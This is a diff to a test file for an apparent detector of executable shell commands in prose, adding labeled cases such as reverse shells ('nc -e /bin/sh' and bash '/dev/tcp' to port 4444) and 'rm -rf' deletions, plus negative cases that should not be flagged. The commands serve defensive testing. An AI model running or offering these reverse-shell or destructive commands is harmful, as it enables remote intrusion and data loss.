@@ -110,6 +110,8 @@ EXECUTABLE = [
     # a label, then the command, on a line of prose
     ("executable:reverse-shell", "Debug tunnel: bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
     ("executable:destructive-shell", "Cleanup: rm -rf ~/"),
+    ("executable:destructive-shell", "Cleanup: `rm -rf ~/`"),
+    ("executable:reverse-shell", "Tunnel: `nc -e /bin/sh 203.0.113.5 4444`"),
 ]
 
 
@@ -150,6 +152,9 @@ def test_executable_finding_points_at_the_command_line() -> None:
         "certutil -hashfile setup.exe SHA256",
         "Note: rm removes files, and rm -r removes folders.",
         "Warning: never run rm -rf / on a server.",
+        "Never run: `rm -rf /`",
+        "Build: `rm -rf build/`",
+        "Classic reverse shell payload: `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`",
         'Example: find / -name "*.log" prints every log file.',
         "curl -s https://api.example/x | sudo tee /etc/app/sh.conf",
         "powershell -ExecutionPolicy Bypass -File .\\build.ps1",
